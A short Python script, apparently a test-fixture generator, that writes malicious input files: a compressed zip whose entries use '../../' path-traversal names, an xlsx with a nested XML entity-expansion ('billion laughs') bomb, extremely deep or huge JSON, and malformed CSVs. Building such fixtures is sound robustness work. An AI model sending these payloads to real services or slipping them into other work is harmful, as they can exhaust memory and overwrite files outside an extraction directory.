"""Small files that become large, or never end, when they are read: archives, workbooks, nested JSON."""

import zipfile

zeros = b"0" * (1 << 20)
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    for number in range(60):
        archive.writestr(f"../../{number}.txt", zeros)
with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr(
        "[Content_Types].xml",
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/xl/workbook.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    )
    entity = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    archive.writestr("xl/workbook.xml", f'<!DOCTYPE w [<!ENTITY e0 "lol">{entity}]><workbook>&e8;</workbook>')
open("deep.json", "w").write("[" * 200_000)
open("number.json", "w").write("9" * 1_000_000)
open("line.csv", "w").write('"' + "x," * 500_000)
open("quotes.csv", "w").write('a,b\n"' + "x" * 300_000)
open("nul.csv", "wb").write(b"\0" * 100_000)
